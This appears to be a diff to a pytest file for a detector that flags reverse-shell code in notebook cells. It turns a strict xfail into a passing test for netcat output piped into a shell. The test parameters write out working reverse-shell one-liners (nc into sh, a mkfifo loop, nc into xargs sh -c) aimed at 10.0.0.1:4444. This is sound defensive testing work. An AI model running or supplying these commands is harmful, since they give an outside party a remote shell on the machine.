@@ -23,7 +23,7 @@ hops of UNIX sockets, a connection handed over by SCM_RIGHTS, a log renamed into
 place. Left (strict xfail, reasons on each): a loop through a file its follower opens O_RDWR
 (the price of the database fix), a shell whose streams are a UNIX socket, a shell between two
 connected processes (the connection closes the loop), and, as cells, read-and-run loops over
-several lines and `nc … | sh`."""
+several lines. (`nc … | sh` as a cell was one: refused since, by the lead's branch.)"""
 
 from __future__ import annotations
 
@@ -550,13 +550,6 @@ def test_a_read_and_run_loop_spread_over_lines_is_refused(cell):
     assert "cell-reverse-shell" in _cell_ids(cell)
 
 
-@pytest.mark.xfail(strict=True, reason=(
-    "a network client piped into a shell or into xargs running each line (`nc … | sh`, "
-    "`nc … | xargs -I{} sh -c {}`, the output back through a FIFO or not) names no loop and "
-    "no /dev/tcp: no cell branch refuses it, and as processes only the loop back to nc is "
-    "seen (a one-way `nc | sh` runs what the network sends without answering it). Suggested "
-    "fix: a cell branch for a client's output piped straight into a shell with no script or "
-    "into xargs … sh -c"))
 @pytest.mark.parametrize("cell", [
     pytest.param("!nc 10.0.0.1 4444 | sh", id="nc-into-sh"),
     pytest.param("%%bash\nmkfifo /tmp/f\nnc 10.0.0.1 4444 < /tmp/f | /bin/sh > /tmp/f 2>&1",
@@ -564,6 +557,8 @@ def test_a_read_and_run_loop_spread_over_lines_is_refused(cell):
     pytest.param("%%bash\nnc 10.0.0.1 4444 | xargs -I{} sh -c {}", id="xargs-sh-c"),
 ])
 def test_a_network_client_piped_into_a_shell_is_refused(cell):
+    """Was a strict xfail: no loop and no /dev/tcp named (fixed by the lead: a raw client's
+    output piped straight into a shell with no script, or into xargs … sh -c)."""
     assert "cell-reverse-shell" in _cell_ids(cell)
 
 
